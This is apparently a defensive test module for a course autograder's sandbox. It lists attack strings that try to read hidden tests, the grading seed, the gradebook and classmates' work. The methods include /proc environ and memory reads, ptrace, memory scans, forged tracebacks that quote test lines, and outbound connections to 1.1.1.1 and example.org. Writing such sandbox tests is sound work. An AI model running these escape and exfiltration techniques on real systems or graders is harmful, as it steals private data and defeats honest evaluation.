"""What nobody may learn: hidden tests, the seed, the gradebook, the sources, and what classmates handed in."""

# Code in strings, as an attacker writes it.
# ruff: noqa: E501

from tests.attacks.attack import Attack, hidden

SEARCH = """def f(x):
    print("found", search())
    return -1
"""

READERS = {
    "plainly": "open(path).read()",
    "by a link": "(os.symlink(path, name) or open(name).read())",
    "by a hard link": "(os.link(path, name) or open(name).read())",
    "by its folder": "os.read(os.open(os.path.basename(path), os.O_RDONLY, dir_fd=os.open(os.path.dirname(path), os.O_PATH)), 500)",
    "by a map": "np.memmap(path, mode='r').tobytes()",
    "by a copy": "__import__('shutil').copy(path, name) and open(name).read()",
    "by sendfile": "os.sendfile(os.open(name, os.O_RDWR | os.O_CREAT), os.open(path, os.O_RDONLY), 0, 500) and open(name).read()",
    "by an import": "__import__('runpy').run_path(path)",
    "by SQLite": "__import__('sqlite3').connect(f'file:{path}?mode=ro', uri=True).execute('select 1').fetchall() and open(path).read()",
    "by the shell": "get_ipython().getoutput('cat ' + path)",
    "by a program": "__import__('subprocess').check_output(['cat', path])",
    "by the line cache": "__import__('linecache').getlines(path)",
    "by NumPy": "np.fromfile(path, 'u1').tobytes()",
    "by matplotlib": "__import__('matplotlib').rc_file(path)",
    "from the parent of its folder": "open('/proc/self/cwd/../../../../..' + path).read()",
    "through another's root": "[open(f'/proc/{p}/root{path}').read() for p in (1, os.getppid())]",
}

ATTACKS = [
    *(
        Attack(
            f"files read {way}",
            f"read the gradebook, the sources and a classmate's work {way}",
            f"def read(path, name):\n    return {code}\ndef search():\n    return [tried(lambda p=p, n=n: read(p, f'own{{n}}-{{time.monotonic_ns()}}')) for n, p in enumerate(PLACES.values())]\n{SEARCH}",
            stock=way in ("plainly", "by the shell"),
        )
        for way, code in READERS.items()
    ),
    Attack(
        "lists of folders",
        "list the course, the home, the temporary folder and the root",
        "def search():\n    return [tried(lambda p=p: os.listdir(p)) for path in PLACES.values() for p in (os.path.dirname(path), os.path.dirname(os.path.dirname(path)))] + tried(lambda: os.listdir('/tmp'), lambda: os.listdir('..'))\n"
        + SEARCH,
    ),
    Attack(
        "a walk through all files",
        "walk through all files that are there and read those that look like a course's",
        "def search():\n    names = ('gradebook.db', '.grading_seed', '1_double.py', '1_double.ipynb', 'crontab', '00-first.py')\n    return [tried(lambda: open(os.path.join(here, name)).read()) for start in ('..', '/tmp', '/home', '/root', '/work', '/srv') for here, _, files in os.walk(start) for name in files if name in names][:50]\n"
        + SEARCH,
    ),
    Attack(
        "the environment",
        "read the variables of its own, its parent's and the first process",
        "def search(): return [dict(os.environ)] + tried(*(lambda p=p: open(f'/proc/{p}/environ', 'rb').read() for p in ('self', os.getppid(), 1)))\n"
        + SEARCH,
    ),
    Attack(
        "the history",
        "read the cells that ran and their results in In, Out and the history",
        "def search(): return tried(lambda: get_ipython().user_ns['In'], lambda: get_ipython().user_ns['Out'], lambda: get_ipython().history_manager.input_hist_raw, lambda: list(get_ipython().history_manager.get_range(raw=True)), lambda: __import__('linecache').cache)\n"
        + SEARCH,
    ),
    Attack(
        "all objects",
        "look at every object in memory for the test's text and variables",
        "def search(): return [s for d in gc.get_objects() if type(d) is dict for s in list(d.values()) if type(s) is str and ('hidden' + '-') in s][:20]\n"
        + SEARCH,
    ),
    Attack(
        "its own memory",
        "search all mapped memory of the process for the hidden test, and that which came from the fork server",
        """def search():
    found = []
    start = id(np) & ~0xFFF
    try:
        regions = [(int(line.split('-')[0], 16), int(line.split('-')[1].split()[0], 16)) for line in open('/proc/self/maps') if 'rw' in line]
    except OSError:
        regions = []
    for low, high in regions:
        data = ctypes.string_at(low, min(high - low, 50_000_000)) if high - low < 200_000_000 else b''
        for mark in (b'hidden' + b'-5f', b'seed' + b'-c2', b'canary' + b'-'):
            at = data.find(mark)
            if at >= 0:
                found.append(data[at:at + 40])
    return found
"""
        + SEARCH,
    ),
    Attack(
        "the stack",
        "walk up the frames to the test and read its code, constants and variables",
        "def search():\n    frame, found = sys._getframe(), []\n    while frame:\n        found += [frame.f_code.co_consts, {k: v for k, v in frame.f_locals.items() if type(v) in (str, bytes)}, {k: v for k, v in frame.f_globals.items() if type(v) is str}]\n        frame = frame.f_back\n    return found\n"
        + SEARCH,
    ),
    Attack(
        "other threads' stacks",
        "read the frames of all threads",
        "def search(): return [(f.f_code.co_consts, list(f.f_globals.get('In', ()))) for f in sys._current_frames().values()]\n"
        + SEARCH,
    ),
    Attack(
        "memory of other processes",
        "read the memory of the parent, of its neighbours and of the first process",
        "def search():\n    def memory(p): return os.pread(os.open(f'/proc/{p}/mem', os.O_RDONLY), 100, id(np))\n    own, buffer = (ctypes.c_void_p * 2)(), ctypes.create_string_buffer(64)\n    own[0], own[1] = ctypes.addressof(buffer), 64\n    other = (ctypes.c_void_p * 2)(id(np), 64)\n    near = [os.getppid(), 1, os.getpid() - 1, os.getpid() + 1]\n    calls = [ctypes.CDLL(None).process_vm_readv(p, own, 1, other, 1, 0) for p in near]\n    assert max(calls) < 0 or os.getpid() == 0, 'READ'\n    return [tried(lambda p=p: memory(p)) for p in near]\n"
        + SEARCH,
    ),
    Attack(
        "tracing others",
        "attach to the parent and to the judge as a debugger does",
        "def search(): return [ctypes.CDLL(None).ptrace(16, p, None, None) for p in (os.getppid(), 1, os.getpid() - 1, os.getpid() + 1, os.getpid() - 2)]\n"
        + SEARCH,
    ),
    Attack(
        "open descriptors",
        "read and list all descriptors that were left open",
        "def search():\n    found = []\n    for fd in range(64):\n        try:\n            mode = os.fstat(fd).st_mode\n        except OSError:\n            continue\n        found.append((fd, mode, tried(lambda: os.readlink(f'/proc/self/fd/{fd}'), lambda: os.pread(fd, 100, 0))))\n    return found\n"
        + SEARCH,
    ),
    Attack(
        "sockets that listen",
        "connect to services of the machine and to names nobody sees in files",
        "def search():\n    def to(family, address):\n        with socket.socket(family) as mine:\n            mine.settimeout(0.2)\n            mine.connect(address)\n            return 'CONNECTED'\n    return tried(lambda: to(socket.AF_INET, ('127.0.0.1', 22)), lambda: to(socket.AF_INET, ('1.1.1.1', 53)), lambda: to(socket.AF_UNIX, '\\0grading'), lambda: to(socket.AF_UNIX, '/run/docker.sock'), lambda: socket.gethostbyname('example.org'))\n"
        + SEARCH,
    ),
    Attack(
        "what goes out by the network",
        "send what it knows to a server, by TCP, UDP, DNS and HTTP",
        "def search():\n    import urllib.request\n    def udp():\n        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as mine: return mine.sendto(b'x', ('1.1.1.1', 53))\n    return tried(udp, lambda: urllib.request.urlopen('http://example.org', timeout=0.2).read(10), lambda: socket.socketpair(), lambda: socket.getaddrinfo('example.org', 80))\n"
        + SEARCH,
    ),
    Attack(
        "the grading seed",
        "find the seed in the environment, in check.rng and in the generators it is given",
        "def f(x=None):\n    from course import check as checks\n    print('rng', checks.rng('f').integers(0, 10**9), os.environ.get('COURSE_GRADING_SEED'), getattr(getattr(x, 'bit_generator', None), 'seed_seq', None), checks.__dict__.keys())\n    return -1",
        ("rng = check.rng('f')\nassert f(rng) == 6", hidden("check.equal(f(check.rng('f')), 6, 'six')")),
    ),
    Attack(
        "quoted lines of a test",
        "raise errors that claim to come from a test's cell, so that its lines are quoted",
        "def at(name, line): return eval(compile('\\n' * (line - 1) + 'lambda: 1 / 0', name, 'eval'))\ndef f(x): at(f'<cell {4 + x % 3}>', 2)()",
        (
            hidden("assert f(3) == 6"),
            "check.equal(f(4), 8, 'eight')",
            "check.equal(f(5), 10, 'ten')",
            "assert f(3) == 6",
        ),
    ),
    Attack(
        "quoted lines by a syntax error",
        "raise a SyntaxError that names a test's cell as its file",
        "def f(x): raise SyntaxError('look', (f'<cell {4 + x % 3}>', 2, 0, None))",
        (
            hidden("assert f(3) == 6"),
            "check.equal(f(4), 8, 'eight')",
            "assert f(3) == 6",
            "assert f(4) == 6",
            "assert f(5) == 6",
        ),
    ),
    Attack(
        "a warning from a test's line",
        "warn about a line of a test, which is quoted beside the warning",
        "import warnings\ndef f(x):\n    for n in range(4, 9):\n        warnings.warn_explicit('look', UserWarning, f'<cell {n}>', 2)\n    return -1",
        (hidden("assert f(3) == 6"), "check.equal(f(4), 8, 'eight')"),
    ),
    Attack(
        "inspect on the test's functions",
        "print the source, constants and closure of the functions that a test hands over",
        "import inspect\ndef f(h):\n    print('got', tried(lambda: inspect.getsource(h), lambda: h.__code__.co_consts, lambda: [c.cell_contents for c in h.__closure__], lambda: h.__globals__['note'], lambda: h.__globals__['In'], lambda: h.__defaults__, lambda: vars(h)))\n    return -1",
        (
            hidden("check.equal(f(lambda x: note), 6, 'six')"),
            "secret = 'see hidden tests'\ncheck.equal(f(lambda x: secret), 6, 'six')",
        ),
    ),
    Attack(
        "errors of the test's functions",
        "make the test's function fail, and read the error",
        "def f(h):\n    try:\n        h()\n    except BaseException as error:\n        import traceback\n        print(repr(error), traceback.format_exc(), vars(error), error.__context__, error.__cause__)\n    return -1",
        (
            hidden("def h(x):\n    raise ValueError(note + str(x))\ncheck.equal(f(h), 6, 'six')"),
            "check.equal(f(lambda x: x), 6, 'six')",
        ),
    ),
    Attack(
        "names it was not asked for",
        "ask the judge for its variables, as it asks for the learner's",
        "def f(x):\n    mine = judged_by()\n    print(tried(*(lambda s=s: mine.ask(s, ['note', 'In', 'check']) for s in ('fetch', 'run', 'get')), lambda: mine.ask('call', 0, (), {}), lambda: mine.ask('call', -1, (), {})))\n    return -1",
        stock=False,
    ),
    Attack(
        "inputs of a visible test",
        "print all that it is given, in each test",
        "def f(*args):\n    print('given', args)\n    return -1",
        (
            hidden("x = 'inputs of ' + 'hidden tests'\ncheck.equal(f(x, 17.25), 6, 'six')"),
            "check.equal(f(5), 10, 'ten')",
        ),
    ),
]
LATER = Attack(
    "inputs kept for a later cell",
    "keep what hidden tests hand over, and print it in a cell behind them",
    "kept = []\ndef f(x):\n    kept.append(x)\n    print('at once', x)\n    return -1",
    (hidden("check.equal(f(70707), 141414, 'twice')"),),
    more=("print('later', kept)",),
    limit="Hidden inputs are known to the function that computes with them. What it prints in a hidden test is dropped; what a later cell prints is not.",
)
ATTACKS.append(LATER)
